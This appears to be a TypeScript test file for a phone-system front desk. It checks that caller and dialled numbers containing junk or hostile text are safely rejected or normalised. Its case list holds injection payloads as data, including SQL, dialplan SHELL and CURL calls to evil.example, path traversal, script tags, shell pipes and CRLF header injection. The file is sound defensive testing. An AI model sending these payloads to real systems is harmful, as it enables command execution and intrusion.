/** Numbers that no honest carrier sends (and some that they do): never an error, one line in the journal each, nothing left. */
import { ANI_KEPT_CHARS_MAX } from "../../src/domain/numbers";
import { FrontDesk } from "../support/front-desk";
import { leftBehind } from "./nothing-left";

/** The characters that must not reach a log line or a screen. */
const UNPRINTABLE = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Cn}\p{Zl}\p{Zp}]/u;

interface Expected {
  readonly kind: "unknown" | "withheld";
  readonly number: string | null;
}
const withheld: Expected = { kind: "withheld", number: null };
const unreadable: Expected = { kind: "unknown", number: null };
const reads = (number: string): Expected => ({ kind: "unknown", number });

const CASES: readonly (readonly [string, string, Expected])[] = [
  ["nothing", "", withheld],
  ["blanks", "   ", withheld],
  ["anonymous", "anonymous", withheld],
  ["Anonymous as a URI", "Anonymous@anonymous.invalid", withheld],
  ["anonymous as a SIP URI", "sip:anonymous@anonymous.invalid", withheld],
  ["restricted", "restricted", withheld],
  ["unavailable", "unavailable", withheld],
  ["PRIVATE", "PRIVATE", withheld],
  ["Unknown", "Unknown", withheld],
  ["a SIP URI without a user", "sip:@carrier.example", withheld],
  ["only a host", "@evil.host", withheld],
  ["a plus", "+", unreadable],
  ["two zeros", "00", unreadable],
  ["only zeros", "0000000000", unreadable],
  ["one digit", "7", unreadable],
  ["an extension of ours", "204", unreadable],
  ["our own DNIS", "+78432000000", reads("+78432000000")],
  ["15 digits", "+123456789012345", unreadable],
  ["16 digits", "+1234567890123456", unreadable],
  ["40 digits", "7".repeat(40), unreadable],
  ["255 digits", "7".repeat(255), unreadable],
  ["4,096 digits", "7".repeat(4_096), unreadable],
  ["two million characters", "x".repeat(2_000_000), unreadable],
  ["as people write it", "+7 (900) 123-45-67", reads("+79001234567")],
  ["as the country dials it", "8 843 555-12-34", reads("+78435551234")],
  ["with 00", "0078435551234", reads("+78435551234")],
  ["with non-breaking spaces", "+7\u00a0843\u00a0555\u00a012\u00a034", reads("+78435551234")],
  ["a tel: URI", "tel:+78435551234", reads("+78435551234")],
  ["an ext parameter", "+78435551234;ext=1", reads("+78435551234")],
  ["an isub parameter", "+78435551234;isub=12", reads("+78435551234")],
  ["a number of a private plan", "tel:5551234;phone-context=corp.example", unreadable],
  ["a SIP URI", "sip:+78435551234@carrier.example", unreadable],
  ["letters", "1-800-FLOWERS", unreadable],
  ["a name", "Alice", unreadable],
  ["Cyrillic", "алиса", unreadable],
  ["digits with a Cyrillic letter", "+7843555123З", unreadable],
  ["Arabic-Indic digits", "+٧٨٤٣٥٥٥١٢٣٤", unreadable],
  ["full-width digits", "＋７８４３５５５１２３４", unreadable],
  ["right-to-left override", "+7843\u202e5551234", unreadable],
  ["a zero-width space", "+7843\u200b5551234", unreadable],
  ["a byte order mark before it", "\ufeff+78435551234", reads("+78435551234")],
  ["a NUL", "+7843555\u00001234", unreadable],
  ["a NUL, percent-encoded", "+7843555%001234", unreadable],
  ["a line break", "+78435551234\r\nX-Evil: 1", unreadable],
  ["a line separator behind it", "+78435551234\u2028", reads("+78435551234")],
  ["a line separator inside", "+7843\u20285551234", unreadable],
  ["a tab inside", "+7843\t5551234", unreadable],
  ["a bell", "\u0007", withheld],
  ["an escape sequence", "\u001b[31mred", unreadable],
  ["an emoji", "📞78435551234", unreadable],
  ["a lone surrogate", "+7843\ud83d5551234", unreadable],
  ["an emoji cut in two by the 64th character", `${"a".repeat(63)}📞`, unreadable],
  ["invalid UTF-8, replaced", "+7843\ufffd\ufffd5551234", unreadable],
  ["SQL", "'; DROP TABLE calls; --", unreadable],
  ["more SQL", "' OR 1=1", unreadable],
  ["dollar quotes", "$$7843$$", unreadable],
  ["a replacement pattern", "$&$1$`", unreadable],
  ["printf", "%s%n%x", unreadable],
  ["the dialplan's shell", `\${SHELL(id)}`, unreadable],
  ["the dialplan's curl", `\${CURL(http://evil.example/)}`, unreadable],
  ["an expression", "$[1+1]", unreadable],
  ["a second channel", "500&PJSIP/itsp/19005551234", unreadable],
  ["a local channel", "Local/x@y", unreadable],
  ["a path", "../../etc/passwd", unreadable],
  ["a script", "<script>alert(1)</script>", unreadable],
  ["a pipe", "7843|id", unreadable],
  ["a backtick", "`id`", unreadable],
  ["a comma and a parenthesis", "7843),Hangup(", unreadable],
  ["the name of a property", "__proto__", unreadable],
  ["a constructor", "constructor", unreadable],
  ["a display name and a number", '"Alice" <+78435551234>', unreadable],
  ["two numbers", "+78435551234,+78435559999", unreadable],
];

test("there are more than sixty of them, each once", () => {
  expect(CASES.length).toBeGreaterThan(60);
  expect(new Set(CASES.map(([, ani]) => ani)).size).toBe(CASES.length);
});

test.each(CASES)("%s", async (_what, ani, expected) => {
  const desk = new FrontDesk();
  desk.login("dave");
  desk.call("mallory", { ani, presses: [{ key: "0", afterMs: 500 }], hangsUpAfterMs: 3_000 });
  await desk.finish();

  expect(desk.world.transcript.slice(0, 3)).toEqual([
    "mallory is answered",
    "mallory hears greet-morning (ru)",
    "mallory waits in front-desk",
  ]);
  const arrived = desk.find("call.arrived");
  expect(arrived).toMatchObject({ ...expected, site: "kazan", dnisKnown: true });
  expect(arrived.ani.length).toBeLessThanOrEqual(ANI_KEPT_CHARS_MAX);
  expect(arrived.ani).not.toMatch(UNPRINTABLE);
  expect(desk.world.phones.attempts).toMatchObject([{ show: { number: expected.number, name: null } }]);
  expect(await leftBehind(desk)).toEqual([]);
});

test.each(CASES.map(([what, text]) => [what, text] as const))(
  "dialled instead of our number: %s",
  async (_what, dnis) => {
    const desk = new FrontDesk();
    desk.call("mallory", { dnis, hangsUpAfterMs: 500 });
    await desk.finish();
    const arrived = desk.find("call.arrived");
    expect(arrived.site).toBe("kazan");
    expect(arrived.dnis.length).toBeLessThanOrEqual(ANI_KEPT_CHARS_MAX);
    expect(arrived.dnis).not.toMatch(UNPRINTABLE);
    expect(await leftBehind(desk)).toEqual([]);
  },
);

test("from one of our phones no text makes an extension", async () => {
  for (const [, dnis] of CASES.filter(([, text]) => text !== "204")) {
    const desk = new FrontDesk();
    desk.call("frank", { from: { kind: "phone", account: "desk-204" }, dnis });
    await desk.finish();
    expect(desk.world.transcript).toEqual(["frank is refused with 404"]);
  }
});

test.each(["desk-999", "", "__proto__", "trunk"])(
  "a phone whose account %j is nobody's is no colleague, and no error",
  async (account) => {
    const desk = new FrontDesk();
    desk.call("mallory", { from: { kind: "phone", account }, hangsUpAfterMs: 1_000 });
    await desk.finish();
    expect(desk.find("call.arrived")).toMatchObject({ kind: "unknown", employee: null });
    expect(await leftBehind(desk)).toEqual([]);
  },
);

test("a withheld number that the network sends all the same is kept out of the journal", async () => {
  for (const [, ani] of CASES) {
    const desk = new FrontDesk();
    desk.call("mallory", { ani, withheld: true, hangsUpAfterMs: 500 });
    await desk.finish();
    expect(desk.find("call.arrived")).toMatchObject({ ani: "anonymous", ...withheld });
  }
});
